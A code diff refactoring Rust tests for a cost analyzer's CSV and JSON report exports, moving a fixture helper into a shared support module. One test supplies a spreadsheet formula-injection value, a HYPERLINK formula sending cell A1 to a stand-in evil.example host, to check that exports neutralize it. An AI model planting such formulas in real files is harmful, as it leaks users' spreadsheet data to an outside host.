@@ -13,20 +13,9 @@ use costwise_analyzer::analysis::{ExclusionReport, RuleStatus};
 use costwise_analyzer::manifest::DataGap;
 use costwise_analyzer::prices::{PriceOrigin, PriceSource};
 use costwise_analyzer::rules::RuleError;
-use costwise_analyzer::{
-    Analysis, Category, Confidence, Config, Dataset, Evidence, Finding, Remediation, Risk, analyze,
-};
+use costwise_analyzer::{Category, Confidence, Evidence, Finding, Remediation, Risk};
 use costwise_report::csv_export::{self, BOM, COLUMNS};
 use serde_json::Value;
-
-fn analysis() -> Analysis {
-    let dir = tempfile::tempdir().unwrap();
-    let snapshot = dir.path().join("snapshot");
-    support::write_tiny_snapshot(&snapshot);
-    let dataset = Dataset::open(&snapshot).unwrap();
-    let config = Config::parse(support::BUDGET_CONFIG, None).unwrap();
-    analyze(&dataset, &config).unwrap()
-}
 
 /// The CSV's records (header first), read with a standard reader.
 fn records(text: &str) -> Vec<Vec<String>> {
@@ -41,7 +30,7 @@ fn repo_file(path: &str) -> String {
 
 #[test]
 fn findings_csv_snapshot() {
-    let analysis = analysis();
+    let analysis = support::tiny_analysis();
     let text = csv_export::findings_csv(&analysis).unwrap();
     let body = text.strip_prefix(BOM).expect("the file starts with a UTF-8 byte-order mark");
     assert_eq!(text, csv_export::findings_csv(&analysis).unwrap(), "deterministic");
@@ -78,7 +67,7 @@ fn findings_csv_snapshot() {
 
 #[test]
 fn hostile_names_and_tags_are_neutralized_in_the_file() {
-    let mut analysis = analysis();
+    let mut analysis = support::tiny_analysis();
     let finding = &mut analysis.findings[0];
     finding.resource_name = Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")".into());
     finding.tags = BTreeMap::from([("@team".to_owned(), "x".to_owned())]);
@@ -251,7 +240,8 @@ fn json_schema_doc_documents_every_field() {
     let doc = repo_file("docs/json-schema.md");
     let sections = sections(&doc);
     let mut all = BTreeSet::new();
-    let fixture: Value = serde_json::from_str(&costwise_report::json::findings_json(&analysis()).unwrap()).unwrap();
+    let fixture: Value =
+        serde_json::from_str(&costwise_report::json::findings_json(&support::tiny_analysis()).unwrap()).unwrap();
     fields(&fixture, "", &mut all);
     let sample: Value = serde_json::from_str(&repo_file("reports/sample/findings.json")).unwrap();
     fields(&sample, "", &mut all);
